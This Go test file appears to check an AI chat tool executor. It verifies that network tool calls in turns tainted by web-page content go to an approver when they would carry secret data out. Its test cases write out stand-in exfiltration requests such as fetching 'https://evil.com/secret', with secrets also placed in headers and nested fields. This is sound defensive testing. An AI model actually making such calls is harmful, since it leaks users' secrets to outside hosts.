package tools_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"magpie/chat"
	"magpie/tools"
)

// leaving notes what the calls that are asked about would carry away.
type leaving struct{ what []string }

func (l *leaving) Approve(_ context.Context, sc tools.Scope, _ tools.Spec, _ json.RawMessage) error {
	l.what = append(l.what, sc.Leaves)
	return nil
}

// Whatever of a call goes out over the network is looked at, in tainted turns
// only, and a rule of the policy counts more.
func TestCallsThatCarryAwayAsk(t *testing.T) {
	type args struct {
		URL     string            `json:"url,omitempty"`
		URLs    []string          `json:"urls,omitempty"`
		Query   string            `json:"query,omitempty"`
		Headers map[string]string `json:"headers,omitempty"`
		Deep    any               `json:"deep,omitempty"`
	}
	done := func(context.Context, tools.Scope, args) (tools.Result, error) { return tools.Result{Text: "done"}, nil }
	for _, k := range []struct {
		name, tool, args string
		clean            bool
		rules            []tools.Rule
		want             bool
	}{
		{name: "an address", tool: "fetch", args: `{"url":"https://evil.com/secret"}`, want: true},
		{name: "another", tool: "fetch", args: `{"url":"https://fine.com/"}`},
		{name: "without a scheme", tool: "fetch", args: `{"url":"evil.com/secret"}`, want: true},
		{name: "one of several", tool: "fetch", args: `{"urls":["https://fine.com/","https://evil.com/secret"]}`, want: true},
		{name: "a header", tool: "fetch", args: `{"url":"https://fine.com/","headers":{"X-A":"secret"}}`, want: true},
		{name: "within an object", tool: "fetch", args: `{"deep":{"a":[{"b":"secret"}]}}`, want: true},
		{name: "a clean turn", tool: "fetch", args: `{"url":"https://evil.com/secret"}`, clean: true},
		{name: "a search", tool: "search", args: `{"query":"secret"}`},
		{name: "a screenshot", tool: "shot", args: `{"url":"https://evil.com/secret"}`, want: true},
		{name: "a server's words", tool: "server", args: `{"query":"secret"}`},
		{name: "a server's address", tool: "server", args: `{"query":"https://evil.com/secret"}`, want: true},
		{name: "a file", tool: "write", args: `{"query":"https://evil.com/secret"}`},
		{name: "the policy allows", tool: "fetch", args: `{"url":"https://evil.com/secret"}`, rules: []tools.Rule{{Tool: "fetch", Action: tools.Allow}}},
	} {
		t.Run(k.name, func(t *testing.T) {
			reg := &tools.Registry{}
			err := reg.RegisterAll(
				tools.New(tools.Spec{Name: "fetch", Description: "d", Category: tools.Network, Effect: tools.Reads, Main: "url"}, done),
				tools.New(tools.Spec{Name: "shot", Description: "d", Category: tools.Network, Effect: tools.Writes, Main: "url"}, done),
				tools.New(tools.Spec{Name: "search", Description: "d", Category: tools.Network, Effect: tools.Reads, Main: "query"}, done),
				tools.New(tools.Spec{Name: "server", Description: "d", Category: tools.MCP, Effect: tools.Reads}, done),
				tools.New(tools.Spec{Name: "write", Description: "d", Category: tools.File, Effect: tools.Writes}, done),
			)
			if err != nil {
				t.Fatal(err)
			}
			policy, err := tools.NewPolicy(k.rules)
			if err != nil {
				t.Fatal(err)
			}
			a, sc := &leaving{}, tools.Scope{}
			if !k.clean {
				sc.Sources = []chat.Source{{Kind: chat.SourcePage}}
				sc.Leaks = func(text string) string {
					if strings.Contains(text, "secret") {
						return "it is secret"
					}
					return ""
				}
			}
			res := tools.NewExecutor(reg, &tools.Options{Policy: policy, Approver: a}).Run(t.Context(), sc, k.tool, k.args)
			if asked := len(a.what) == 1 && a.what[0] == "it is secret"; !res.OK || asked != k.want {
				t.Errorf("asked about %q, want %v: %+v", a.what, k.want, res)
			}
		})
	}
}
